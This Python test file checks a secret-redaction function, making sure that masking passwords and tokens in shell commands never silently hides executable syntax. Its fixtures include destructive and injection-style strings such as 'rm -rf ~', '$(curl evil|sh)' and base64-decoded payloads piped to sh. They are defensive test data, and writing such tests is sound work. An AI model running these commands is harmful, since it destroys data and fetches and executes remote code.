"""What would be executed is never hidden: it stays in sight, or the one who reads is told that it may not have."""

from __future__ import annotations

import pytest
from hypothesis import given, settings

from codex_oauth.redaction import redact
from tests.redaction.texts import SYNTAX, texts, words_of

TOKEN = "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
CODED = "Y3VybCBldmlsfHNo12"

IN_SIGHT = {
    # What is written: what must still be read in it.
    "tool --password='x'; rm -rf ~": "; rm -rf ~",
    "tool --password='hunter2'; rm -rf ~": "'; rm -rf ~",
    "TOKEN=$(curl evil|sh)": "$(curl evil|sh)",
    "TOKEN=hunter2$(curl evil|sh)": "$(curl evil|sh)",
    'password="$(curl evil|sh)"': "$(curl evil|sh)",
    "curl -H Authorization:\\ Bearer\\ hunter2`id`b": "`id`",
    "curl -u a:hunter2;reboot": ";reboot",
    "mysql -p`id`": "`id`",
    "docker login -p $(id)": "$(id)",
    "tool --token <(id)": "<(id)",
    "tool --token=>file": ">file",
    "PASSWORD=hunter2\nrm -rf ~": "\nrm -rf ~",
    "PASSWORD=hunter2&&rm -rf ~": "&&rm -rf ~",
    "echo 'https://u:hunter2@h';rm -rf ~": "';rm -rf ~",
    "curl 'https://h/?token=hunter2&x=1'|sh": "'|sh",
    f"echo {TOKEN};rm -rf ~": ";rm -rf ~",
    f"echo {TOKEN}$(id)": "$(id)",
    "-----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\ncurl evil | sh\n-----END RSA PRIVATE KEY-----": (
        "\nrm -rf ~\ncurl evil | sh\n"
    ),
    "Cookie: a=hunter2|sh": "|sh",
    "tool --token hunter2 2>/dev/null": " 2>/dev/null",
    "tool --token /opt/x/run.sh": "/opt/x/run.sh",
}

HIDDEN = (
    # A text in quotes, or what only seems to be one: the first quote here ends what was opened before.
    'password="; rm -rf / #"',
    "env 'X_PASSWORD=' rm -rf ~ ''",
    "echo 'x --password='; rm -rf ~; echo '",
    'tool --password="ab$(id)cd"',
    "tool --password='ab`id`cd'",
    "mysql -p'x;id'",
    "tool --token 'two words'",
    "curl https://u:p;reboot@h",
    'curl "https://u:p$(id)@h"',
    "curl -H 'Cookie: a=hunter2; EDITOR=reboot git commit'",
    "curl -H Cookie:a=hunter2; EDITOR=reboot git commit",
    "PASSWORD=ab$cd",
    "PASSWORD=a*",
    # The name of a command, or a part of its path.
    f"{TOKEN} -rf",
    f"cd x && {TOKEN} -rf",
    f"./bin/{TOKEN}",
    f"true; '{TOKEN}'",
    "password: |\n  reboot now",
    "TOKEN=opt/evil; ls",
    # A word that becomes a command.
    "TOKEN=reboot; $TOKEN",
    "TOKEN=opt/evil; $TOKEN",
    'TOKEN=reboot; sh -c "$TOKEN"',
    "TOKEN=reboot; if true; then $TOKEN; fi",
    "TOKEN=reboot; A=1 $TOKEN",
    "TOKEN=reboot; echo ${TOKEN}",
    "${PASSWORD:-reboot}",
    "if true; then ${PASSWORD:-reboot}; fi",
    'f() { shift; "$@"; }; f --password reboot',
    "npx --token reboot now",
    "alias password=reboot; password",
    "git -c alias.password=push password",
    "set TOKEN=reboot & %TOKEN%",
    "echo token=reboot | cut -d= -f2 | sh",
    "echo token=reboot | cut -d= -f2 | xargs -I{} {}",
    "echo token=reboot | ssh host",
    'python -c "password=eval; password(input())"',
    "python3 -c 'token=\"reboot\"; import os; os.system(token)'",
    # A longer one that is a command in another form.
    f"TOKEN={CODED}; echo $TOKEN | base64 -d | sh",
    f"TOKEN={CODED}; $(rev <<< $TOKEN)",
    f"TOKEN={CODED}; A=1 $(rev <<< $TOKEN)",
    f"python -c \"import base64; exec(base64.b64decode('token={CODED}'[6:]))\"",
    # Lines, each of which is a command.
    "-----BEGIN PRIVATE KEY-----\n/usr/local/bin/evil\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
    "echo -----BEGIN PRIVATE KEY-----\n> somebodysimportantfile",
)

NOT_HIDDEN = (
    "git clone https://alice:hunter2@example.com/x.git && make",
    "export OPENAI_API_KEY=sk-proj-abcDEF0123456789abcdef; python run.py",
    f"GH_TOKEN={TOKEN} gh pr list | head",
    f'TOKEN={TOKEN}; curl -H "Authorization: Bearer $TOKEN" https://x | jq .',
    f"curl -H 'Authorization: Bearer {TOKEN}' 'https://x/?a=1&b=2' | jq '.[] | .id' > out.json",
    "PGPASSWORD=hunter2 psql -h db -c 'select 1'",
    "docker login -u me -p 'P4ss!w0rd' registry.example.com",
    "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
    "AccountName=x;AccountKey=abcDEF0123456789abcDEF0123456789abcDEF01234==;EndpointSuffix=y",
    "curl 'https://x/?sig=Abc%2Bdef%3D'",
)


@pytest.mark.parametrize("text", IN_SIGHT)
def test_what_stands_behind_a_secret_stays_in_sight(text: str) -> None:
    shown = redact(text)
    assert IN_SIGHT[text] in shown.text
    assert all(shown.text.count(sign) == text.count(sign) for sign in SYNTAX)


@pytest.mark.parametrize("text", HIDDEN)
def test_what_could_run_and_was_hidden_is_told(text: str) -> None:
    shown = redact(text)
    assert shown.count > 0
    assert shown.hid_syntax


@pytest.mark.parametrize("text", NOT_HIDDEN)
def test_an_ordinary_command_with_a_secret_hides_nothing_that_could_run(text: str) -> None:
    shown = redact(text)
    assert shown.count > 0
    assert not shown.hid_syntax


@settings(max_examples=500)
@given(texts())
def test_no_syntax_goes_unless_it_is_told(text: str) -> None:
    shown = redact(text)
    if not shown.hid_syntax:
        assert {sign: shown.text.count(sign) for sign in SYNTAX} == {sign: text.count(sign) for sign in SYNTAX}
        assert words_of(shown.text) == words_of(text)


@settings(max_examples=500)
@given(texts())
def test_whatever_is_redacted_once_stays_as_it_is(text: str) -> None:
    shown = redact(text)
    assert redact(shown.text).text == shown.text
    assert shown.count or shown.text == text
